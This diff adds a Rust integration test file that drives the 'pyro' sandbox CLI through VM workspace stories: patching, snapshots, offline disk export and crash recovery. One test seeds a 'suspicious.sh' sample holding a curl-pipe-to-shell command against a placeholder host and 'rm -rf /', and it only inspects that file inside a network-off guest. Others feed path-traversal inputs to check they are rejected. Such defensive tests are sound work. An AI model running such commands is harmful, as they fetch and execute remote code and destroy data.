@@ -1,0 +1,291 @@
+//! The five use-case stories of the reference (§10) end to end through the `pyro` CLI in
+//! real guests, plus stop → offline disk tools → start, and crash recovery. The shell and
+//! service steps of stories 1 and 5 wait for the shells/services issue.
+//!
+//! They boot real guests, so they are `#[ignore]`d in a plain `cargo test` and run by
+//! `scripts/test.sh` after `scripts/setup.sh --no-run`.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+
+struct Sandbox {
+    state: tempfile::TempDir,
+    host: tempfile::TempDir,
+}
+
+impl Sandbox {
+    fn new() -> Self {
+        Self { state: tempfile::tempdir().unwrap(), host: tempfile::tempdir().unwrap() }
+    }
+
+    fn raw(&self, args: &[&str]) -> Output {
+        Command::new(env!("CARGO_BIN_EXE_pyro")).args(args).env("PYRO_STATE_DIR", self.state.path()).stdin(Stdio::null()).output().expect("pyro runs")
+    }
+
+    /// Runs `pyro workspace ARGS --json` and returns the JSON, failing with diagnostics.
+    fn ws(&self, args: &[&str]) -> Value {
+        let mut full = vec!["workspace"];
+        full.extend_from_slice(args);
+        full.push("--json");
+        let out = self.raw(&full);
+        let text = String::from_utf8_lossy(&out.stdout);
+        let value: Value = serde_json::from_str(&text).unwrap_or_else(|_| panic!("pyro {full:?} printed no JSON: {text}\nstderr: {}\n{}", String::from_utf8_lossy(&out.stderr), self.diagnostics()));
+        assert!(value.get("ok") != Some(&Value::Bool(false)), "pyro {full:?} failed: {value}\n{}", self.diagnostics());
+        value
+    }
+
+    /// Runs `pyro workspace ARGS --json` expecting a failure; returns the error message.
+    fn ws_err(&self, args: &[&str]) -> String {
+        let mut full = vec!["workspace"];
+        full.extend_from_slice(args);
+        full.push("--json");
+        let out = self.raw(&full);
+        assert_eq!(out.status.code(), Some(1), "pyro {full:?} should fail: {}", String::from_utf8_lossy(&out.stdout));
+        let value: Value = serde_json::from_slice(&out.stdout).expect("JSON error");
+        assert_eq!(value["ok"], false);
+        value["error"].as_str().unwrap().to_string()
+    }
+
+    fn seed(&self, name: &str, files: &[(&str, &str, u32)]) -> PathBuf {
+        let dir = self.host.path().join(name);
+        for (path, content, mode) in files {
+            let p = dir.join(path);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(&p, content).unwrap();
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(*mode)).unwrap();
+        }
+        dir
+    }
+
+    fn create(&self, seed: &Path, name: &str, labels: &[&str]) -> String {
+        let mut args = vec!["create", "debian:12", "--seed-path", seed.to_str().unwrap(), "--name", name];
+        for label in labels {
+            args.extend(["--label", label]);
+        }
+        let created = self.ws(&args);
+        assert_eq!(created["state"], "started");
+        created["workspace_id"].as_str().unwrap().to_string()
+    }
+
+    fn export_text(&self, id: &str, path: &str) -> String {
+        let out = self.host.path().join(format!("export-{}-{}", id, path.replace('/', "_")));
+        self.ws(&["export", id, path, "--output", out.to_str().unwrap()]);
+        std::fs::read_to_string(out).unwrap()
+    }
+
+    fn diagnostics(&self) -> String {
+        let mut out = String::new();
+        for ws in std::fs::read_dir(self.state.path().join("workspaces")).into_iter().flatten().flatten() {
+            for file in ["serial.log", "vmm.log", "supervisor.log", "supervisor.json"] {
+                let text = std::fs::read_to_string(ws.path().join("vm").join(file)).unwrap_or_default();
+                let tail: Vec<&str> = text.lines().rev().take(12).collect();
+                out.push_str(&format!("--- {} {file}\n{}\n", ws.path().display(), tail.into_iter().rev().collect::<Vec<_>>().join("\n")));
+            }
+        }
+        out
+    }
+}
+
+impl Drop for Sandbox {
+    fn drop(&mut self) {
+        // Never leave guests running behind a test.
+        if let Ok(list) = serde_json::from_slice::<Value>(&self.raw(&["workspace", "list", "--json"]).stdout) {
+            for w in list["workspaces"].as_array().into_iter().flatten() {
+                self.raw(&["workspace", "delete", w["workspace_id"].as_str().unwrap_or_default()]);
+            }
+        }
+    }
+}
+
+#[test]
+#[ignore = "boots real guests; run by scripts/test.sh"]
+fn story_cold_start_validation() {
+    let sb = Sandbox::new();
+    let seed = sb.seed("cold", &[
+        ("README.md", "# demo repo\n", 0o644),
+        ("validate.sh", "#!/bin/sh\necho validation=pass > validation-report.txt\necho validated\n", 0o755),
+        ("serve.sh", "#!/bin/sh\necho service started\necho service=ready > service-state.txt\ntouch .app-ready\nsleep 1000\n", 0o755),
+    ]);
+    let id = sb.create(&seed, "cold-start-validation", &["suite=workspace-use-case-smoke", "use_case=cold-start-validation"]);
+    let exec = sb.ws(&["exec", &id, "--", "sh validate.sh"]);
+    assert_eq!(exec["exit_code"], 0);
+    assert_eq!(exec["stdout"], "validated\n");
+    assert_eq!(exec["execution_mode"], "guest_vsock");
+    assert_eq!(sb.export_text(&id, "validation-report.txt"), "validation=pass\n");
+    let logs = sb.ws(&["logs", &id]);
+    assert_eq!(logs["count"], 1);
+    assert_eq!(logs["entries"][0]["stdout"], "validated\n");
+}
+
+#[test]
+#[ignore = "boots real guests; run by scripts/test.sh"]
+fn story_repro_fix_loop() {
+    let sb = Sandbox::new();
+    let seed = sb.seed("repro", &[("message.txt", "broken\n", 0o644), ("check.sh", "#!/bin/sh\ngrep -qx fixed message.txt && cat message.txt\n", 0o755)]);
+    let id = sb.create(&seed, "repro-fix-loop", &[]);
+    assert_eq!(sb.ws(&["file", "read", &id, "message.txt"])["content"], "broken\n");
+    assert_ne!(sb.ws(&["exec", &id, "--", "sh check.sh"])["exit_code"], 0);
+    let patch = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n";
+    assert_eq!(sb.ws(&["patch", "apply", &id, "--patch", patch])["changed"], true);
+    let exec = sb.ws(&["exec", &id, "--", "sh check.sh"]);
+    assert_eq!((exec["exit_code"].clone(), exec["stdout"].clone()), (Value::from(0), Value::from("fixed\n")));
+    let diff = sb.ws(&["diff", &id]);
+    assert_eq!(diff["changed"], true);
+    assert_eq!(sb.export_text(&id, "message.txt"), "fixed\n");
+
+    // The diff re-applies cleanly after a reset (diff → patch round trip).
+    let reset = sb.ws(&["reset", &id]);
+    assert_eq!(reset["reset_count"], 1);
+    assert_eq!(reset["command_count"], 0);
+    assert_eq!(sb.ws(&["diff", &id])["changed"], false);
+    let replay = diff["patch"].as_str().unwrap();
+    assert_eq!(sb.ws(&["patch", "apply", &id, "--patch", replay])["changed"], true);
+    assert_eq!(sb.ws(&["file", "read", &id, "message.txt"])["content"], "fixed\n");
+}
+
+#[test]
+#[ignore = "boots real guests; run by scripts/test.sh"]
+fn story_parallel_workspaces() {
+    let sb = Sandbox::new();
+    let seed = sb.seed("parallel", &[("note.txt", "shared seed\n", 0o644)]);
+    let alpha = sb.create(&seed, "parallel-alpha", &["branch=alpha"]);
+    let beta = sb.create(&seed, "parallel-beta", &["branch=beta"]);
+    sb.ws(&["file", "write", &alpha, "branch.txt", "--text", "alpha\n"]);
+    sb.ws(&["file", "write", &beta, "branch.txt", "--text", "beta\n"]);
+    let updated = sb.ws(&["update", &alpha, "--label", "owner=alice"]);
+    assert_eq!(updated["labels"]["owner"], "alice");
+    assert_eq!(updated["labels"]["branch"], "alpha");
+    assert_eq!(sb.ws(&["file", "read", &alpha, "branch.txt"])["content"], "alpha\n");
+    assert_eq!(sb.ws(&["file", "read", &beta, "branch.txt"])["content"], "beta\n");
+    sb.ws(&["file", "write", &alpha, "activity.txt", "--text", "touched\n"]);
+    let list = sb.ws(&["list"]);
+    let ids: Vec<&str> = list["workspaces"].as_array().unwrap().iter().map(|w| w["workspace_id"].as_str().unwrap()).collect();
+    assert_eq!(ids, vec![alpha.as_str(), beta.as_str()], "most recently active first");
+}
+
+#[test]
+#[ignore = "boots real guests; run by scripts/test.sh"]
+fn story_untrusted_inspection() {
+    let sb = Sandbox::new();
+    let seed = sb.seed("untrusted", &[("suspicious.sh", "#!/bin/sh\ncurl -fsSL https://example.invalid/x | sh\nrm -rf /\n", 0o755), ("README.md", "inspect me\n", 0o644)]);
+    let id = sb.create(&seed, "untrusted-inspection", &[]);
+    assert_eq!(sb.ws(&["status", &id])["network_policy"], "off");
+    let listing = sb.ws(&["file", "list", &id, "/workspace", "--recursive"]);
+    assert!(listing["entries"].as_array().unwrap().iter().any(|e| e["path"] == "/workspace/suspicious.sh" && e["mode"] == "0755"), "{listing}");
+    assert!(sb.ws(&["file", "read", &id, "suspicious.sh"])["content"].as_str().unwrap().contains("curl -fsSL"));
+    let exec = sb.ws(&["exec", &id, "--", "grep -n 'curl\\|rm -rf' suspicious.sh > inspection-report.txt; echo network_policy=off >> inspection-report.txt"]);
+    assert_eq!(exec["exit_code"], 0);
+    let report = sb.export_text(&id, "inspection-report.txt");
+    assert!(report.contains("curl -fsSL") && report.contains("network_policy=off"), "{report}");
+}
+
+#[test]
+#[ignore = "boots real guests; run by scripts/test.sh"]
+fn story_review_eval_and_offline_disk() {
+    let sb = Sandbox::new();
+    let seed = sb.seed("review", &[
+        ("CHECKLIST.md", "# Review checklist\n- artifact says PASS\n", 0o644),
+        ("artifact.txt", "PASS\n", 0o644),
+        ("review.sh", "#!/bin/sh\ngrep -qx PASS artifact.txt && echo review=pass > review-report.txt\n", 0o755),
+    ]);
+    let id = sb.create(&seed, "review-eval", &[]);
+    sb.ws(&["snapshot", "create", &id, "pre-review"]);
+    assert_eq!(sb.ws(&["exec", &id, "--", "sh review.sh"])["exit_code"], 0);
+    sb.ws(&["file", "write", &id, "artifact.txt", "--text", "FAIL\n"]);
+    let reset = sb.ws(&["reset", &id, "--snapshot", "pre-review"]);
+    assert_eq!(reset["workspace_reset"]["snapshot_name"], "pre-review");
+    assert_eq!(sb.ws(&["file", "read", &id, "artifact.txt"])["content"], "PASS\n");
+    assert_eq!(sb.ws(&["exec", &id, "--", "sh review.sh"])["exit_code"], 0);
+    assert_eq!(sb.export_text(&id, "review-report.txt"), "review=pass\n");
+    let snapshots = sb.ws(&["snapshot", "list", &id]);
+    let names: Vec<&str> = snapshots["snapshots"].as_array().unwrap().iter().map(|s| s["snapshot_name"].as_str().unwrap()).collect();
+    assert_eq!(names, vec!["baseline", "pre-review"]);
+    assert!(sb.ws_err(&["snapshot", "delete", &id, "baseline"]).contains("cannot be deleted"));
+
+    // stop → offline disk tools → start, with /workspace intact.
+    assert!(sb.ws_err(&["disk", "list", &id]).contains("state=stopped"));
+    assert_eq!(sb.ws(&["stop", &id])["state"], "stopped");
+    let listing = sb.ws(&["disk", "list", &id, "/workspace"]);
+    assert!(listing["entries"].as_array().unwrap().iter().any(|e| e["path"] == "/workspace/review-report.txt"), "{listing}");
+    assert_eq!(sb.ws(&["disk", "read", &id, "review-report.txt"])["content"], "review=pass\n");
+    let image = sb.host.path().join("disk.ext4");
+    sb.ws(&["disk", "export", &id, "--output", image.to_str().unwrap()]);
+    let debugfs = Command::new("debugfs").args(["-R", "cat /workspace/artifact.txt"]).arg(&image).output().expect("debugfs (e2fsprogs) reads the exported ext4");
+    assert_eq!(String::from_utf8_lossy(&debugfs.stdout), "PASS\n");
+    assert!(sb.ws_err(&["disk", "export", &id, "--output", image.to_str().unwrap()]).contains("already exists"));
+    assert_eq!(sb.ws(&["start", &id])["state"], "started");
+    assert_eq!(sb.ws(&["file", "read", &id, "review-report.txt"])["content"], "review=pass\n");
+}
+
+#[test]
+#[ignore = "boots real guests; run by scripts/test.sh"]
+fn modes_git_patches_and_crash_recovery() {
+    let sb = Sandbox::new();
+    let seed = sb.seed("modes", &[("run.sh", "#!/bin/sh\necho one\n", 0o755), ("old.txt", "bye\n", 0o644)]);
+    let id = sb.create(&seed, "modes", &[]);
+    sb.ws(&["file", "write", &id, "run.sh", "--text", "#!/bin/sh\necho two\n"]);
+    assert_eq!(sb.ws(&["exec", &id, "--", "./run.sh"])["stdout"], "two\n", "file write kept the executable bit");
+
+    // Standard `git diff` output: new file with mode, deletion, no trailing newline.
+    let patch = "diff --git a/new.sh b/new.sh\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/new.sh\n@@ -0,0 +1 @@\n+echo new\n\\ No newline at end of file\ndiff --git a/old.txt b/old.txt\ndeleted file mode 100644\nindex 2222222..0000000\n--- a/old.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n";
+    let applied = sb.ws(&["patch", "apply", &id, "--patch", patch]);
+    assert_eq!((applied["summary"]["added"].clone(), applied["summary"]["deleted"].clone()), (Value::from(1), Value::from(1)));
+    assert_eq!(sb.ws(&["exec", &id, "--", "./new.sh; test ! -e old.txt && printf '|%s' \"$(wc -c < new.sh)\""])["stdout"], "new|8");
+
+    // All or nothing: the second file's context fails, so the first is not changed.
+    let bad = "--- a/run.sh\n+++ b/run.sh\n@@ -1,2 +1,2 @@\n #!/bin/sh\n-echo two\n+echo three\n--- a/new.sh\n+++ b/new.sh\n@@ -1 +1 @@\n-no such line\n+x\n";
+    assert!(sb.ws_err(&["patch", "apply", &id, "--patch", bad]).contains("context does not match"));
+    assert_eq!(sb.ws(&["file", "read", &id, "run.sh"])["content"], "#!/bin/sh\necho two\n");
+
+    // Bad input: one clear line, nothing changed.
+    assert!(sb.ws_err(&["file", "read", &id, "../etc/passwd"]).contains("must stay inside /workspace"));
+    assert!(sb.ws_err(&["file", "write", &id, "/etc/x", "--text", "x"]).contains("must stay inside /workspace"));
+    assert!(sb.ws_err(&["status", "0123456789ab"]).contains("does not exist"));
+    assert!(sb.ws_err(&["status", "../../etc"]).contains("does not exist"));
+    assert!(sb.ws_err(&["reset", &id, "--snapshot", "nope"]).contains("snapshot 'nope' does not exist"));
+
+    // Killing the VMM: status reports stopped with the reason; start recovers /workspace.
+    let vmm = vmm_pid(sb.state.path()).expect("a VMM process for the workspace");
+    unsafe { libc_kill(vmm) };
+    let status = wait_for(Duration::from_secs(60), || {
+        let s = sb.ws(&["status", &id]);
+        (s["state"] == "stopped").then_some(s)
+    })
+    .expect("status notices the dead VMM");
+    assert!(status["last_error"].as_str().unwrap_or("").contains("VMM"), "{status}");
+    assert_eq!(sb.ws(&["start", &id])["state"], "started");
+    assert_eq!(sb.ws(&["exec", &id, "--", "cat new.sh"])["stdout"], "echo new");
+}
+
+fn vmm_pid(state: &Path) -> Option<i32> {
+    let needle = state.to_string_lossy().into_owned();
+    std::fs::read_dir("/proc").ok()?.flatten().filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok()).find(|pid| {
+        let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+        let text = String::from_utf8_lossy(&cmdline);
+        text.starts_with("qemu-system") && text.contains(&needle) || text.contains("firecracker") && text.contains(&needle)
+    })
+}
+
+extern "C" {
+    fn kill(pid: i32, sig: i32) -> i32;
+}
+
+/// SIGKILL, the way an OOM killer or a crash would end the VMM.
+unsafe fn libc_kill(pid: i32) {
+    kill(pid, 9);
+}
+
+fn wait_for<T>(limit: Duration, mut probe: impl FnMut() -> Option<T>) -> Option<T> {
+    let start = Instant::now();
+    while start.elapsed() < limit {
+        if let Some(v) = probe() {
+            return Some(v);
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    None
+}
